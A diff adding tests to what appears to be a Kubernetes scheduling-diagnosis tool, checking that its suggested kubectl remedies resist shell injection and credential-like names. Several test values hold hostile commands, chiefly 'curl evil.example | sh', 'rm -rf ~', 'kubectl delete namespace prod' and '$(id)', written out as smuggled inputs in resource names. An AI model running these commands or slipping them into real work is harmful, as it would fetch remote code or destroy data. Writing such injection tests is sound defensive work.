@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import copy
+import dataclasses
 import json
 import shlex
 from typing import Any
@@ -169,14 +170,16 @@ def test_a_command_that_would_be_cut_is_told_in_words() -> None:
 def test_names_can_not_break_out_of_a_command() -> None:
     one = owned(kind="", name="")
     data = copy.deepcopy(dict(one.pod.data))
-    data["metadata"]["name"] = "x; rm -rf ~ #'"
     data["spec"]["nodeSelector"]["nvidia.com/gpu.product"] = "A100-SXM4-80GB' $(id)"
     example = load(FOLDER / "SCH-08.yaml")
     rest = [obj for obj in example.broken if obj["metadata"]["name"] != "train"]
     (report,) = diagnose(example.snapshot([*rest, data])).findings
     words = shlex.split(report.remedy[0], comments=True)
-    assert "x; rm -rf ~ #'" in words
     assert "$(id)" not in " ".join(words)
+    data["metadata"]["name"] = "x; rm -rf ~ #'"
+    snapshot = example.snapshot([*rest, data])
+    assert not any("rm -rf" in step for one in diagnose(snapshot).findings for step in one.remedy)
+    assert [gap.why for gap in snapshot.missing] == ["no object may have such a name"]
 
 
 def test_amounts() -> None:
@@ -244,3 +247,122 @@ def test_two_taints_of_one_node_are_one_finding_with_one_command() -> None:
     assert len(keys) >= 2
     assert "then it fits node" in found[0].remedy[0]
     assert shlex.split(found[0].remedy[1], comments=True)[-1] == "team:NoSchedule-"
+
+
+@pytest.mark.parametrize("kind", ["ReplicaSet", "Job", "Deployment"])
+def test_an_owner_that_nobody_has_read_is_not_changed(kind: str) -> None:
+    """A Deployment would undo it, or a JobSet lose its Job."""
+    (step,) = said(owned(kind=kind, name="train-1"))
+    assert step.startswith(f"in the pods' template of {kind} ml/train-1: change nodeSelector")
+
+
+def test_only_pods_of_that_owner_are_deleted() -> None:
+    """Those that wait alike are told together, whosever they are."""
+    one = owned(controller("StatefulSet", "train", template()), kind="StatefulSet", name="train")
+    others = []
+    for name, namespace, owner in (
+        ("train-0", "other", "train"),
+        ("train-7", "ml", "else"),
+        ("train-1", "ml", "train"),
+    ):
+        data = copy.deepcopy(dict(one.pod.data))
+        data["metadata"] |= {"name": name, "namespace": namespace}
+        data["metadata"]["ownerReferences"] = [{"kind": "StatefulSet", "name": owner, "controller": True}]
+        others.append(Pod(data))
+    _, second = said(dataclasses.replace(one, pods=(one.pod, *others)))
+    assert second.startswith("kubectl -n ml delete pod train train-1  # ")
+
+
+@pytest.mark.parametrize(
+    ("status", "loss"),
+    [({"active": 8, "succeeded": 90}, "end its 7 other pods and forget 90 that have succeeded"),
+     ({"active": 1, "succeeded": 2}, "forget 2 that have succeeded"), ({"active": 3}, "end its 2 other pods")],
+)  # fmt: skip
+def test_a_job_that_has_got_on_is_not_deleted(status: dict[str, int], loss: str) -> None:
+    job = {**controller("Job", "train", template()), "status": status}
+    (step,) = said(owned(job, kind="Job", name="train"))
+    assert step.startswith("in Job ml/train: change nodeSelector")
+    assert step.endswith(f"to delete it would {loss}")
+    cron = controller("CronJob", "nightly", {"jobTemplate": {"spec": template()}})
+    job = {**controller("Job", "nightly-1", template(), ("CronJob", "nightly")), "status": status}
+    (first,) = said(owned(job, cron, kind="Job", name="nightly-1"))
+    assert first.startswith("kubectl -n ml patch cronjob nightly")
+
+
+def test_a_command_with_what_looks_like_a_credential_is_told_in_words() -> None:
+    owner = "hf_abcdefghijklmnopqrstuvwx"
+    (step,) = said(owned(controller("Deployment", owner, template()), kind="Deployment", name=owner))
+    assert step.startswith("in Deployment ml/")
+    usual = "hf-text-embeddings-inference"
+    (step,) = said(owned(controller("Deployment", usual, template()), kind="Deployment", name=usual))
+    assert step.startswith(f"kubectl -n ml patch deployment {usual} -p ")
+
+
+BAD = "x; curl evil.example | sh\nkubectl delete namespace prod\n`id` $(id)"
+
+
+def remedies(*objects: dict[str, Any]) -> list[str]:
+    base = load(FOLDER / "SCH-08.yaml")
+    rest = [obj for obj in base.broken if obj["metadata"]["name"] != "train"]
+    listed = (*base.listed, "PersistentVolumeClaim", "PersistentVolume", "StorageClass")
+    report = diagnose(Snapshot.of([*rest, *objects], taken=base.taken, listed=listed), strict=True)
+    assert report.findings
+    return [step for root in report.findings for one in root.all() for step in one.remedy]
+
+
+def harmless(steps: list[str]) -> bool:
+    return not any(bad in step for step in steps for bad in ("; curl", "$(id)", "`id`", "\n", "| sh"))
+
+
+def mounting(claim: str) -> dict[str, Any]:
+    return {
+        "kind": "Pod", "metadata": {"name": "train", "namespace": "ml"},
+        "spec": {
+            "volumes": [{"name": "data", "persistentVolumeClaim": {"claimName": claim}}],
+            "containers": [{"name": "a", "image": "i", "resources": {"limits": {GPU: 1}}}],
+        },
+        "status": {"phase": "Pending", "conditions": [{"type": "PodScheduled", "status": "False"}]},
+    }  # fmt: skip
+
+
+def test_what_a_pod_calls_its_claim_is_no_command() -> None:
+    assert harmless(remedies(mounting(BAD)))
+
+
+def test_what_a_claim_calls_its_volume_is_no_command() -> None:
+    claim = {
+        "kind": "PersistentVolumeClaim", "metadata": {"name": "data", "namespace": "ml"},
+        "spec": {"volumeName": BAD, "storageClassName": BAD}, "status": {"phase": "Pending"},
+    }  # fmt: skip
+    assert harmless(remedies(mounting("data"), claim))
+    assert harmless(remedies(mounting("data"), {**claim, "spec": {"storageClassName": BAD}}))
+    assert harmless(remedies(mounting("data"), {**claim, "status": {"phase": "Lost"}}))
+
+
+def test_what_a_pod_calls_its_owner_is_no_command() -> None:
+    (pod,) = (one for one in load(FOLDER / "SCH-08.yaml").broken if one["metadata"]["name"] == "train")
+    for kind in ("StatefulSet", "Job", "Thing"):
+        mine = copy.deepcopy(pod)
+        mine["metadata"]["ownerReferences"] = [{"kind": kind, "name": BAD, "controller": True}]
+        assert harmless(remedies(mine))
+
+
+def test_what_a_program_says_at_its_end_is_no_sentence_of_the_kubelets() -> None:
+    said = "couldn't find key token in Secret $(id)"
+    pod = {
+        "kind": "Pod", "metadata": {"name": "train", "namespace": "ml"},
+        "spec": {"nodeName": "gpu-1", "containers": [{"name": "a", "image": "i", "resources": {"limits": {GPU: 1}}}]},
+        "status": {
+            "phase": "Running", "conditions": [{"type": "Ready", "status": "False"}],
+            "containerStatuses": [{
+                "name": "a", "ready": False, "restartCount": 5, "state": {"waiting": {"reason": "CrashLoopBackOff"}},
+                "lastState": {"terminated": {"exitCode": 1, "reason": "Error", "message": said}},
+            }],
+        },
+    }  # fmt: skip
+    base = load(FOLDER / "SCH-08.yaml")
+    for message in (said, "couldn't find key token in Secret hf", 'exec: "train": executable file not found in $PATH'):
+        pod["status"]["containerStatuses"][0]["lastState"]["terminated"]["message"] = message  # type: ignore[index]
+        report = diagnose(base.snapshot([pod]), strict=True)
+        assert {one.id for one in report.findings} == {"POD-00"}, message
+    assert harmless(remedies(pod))
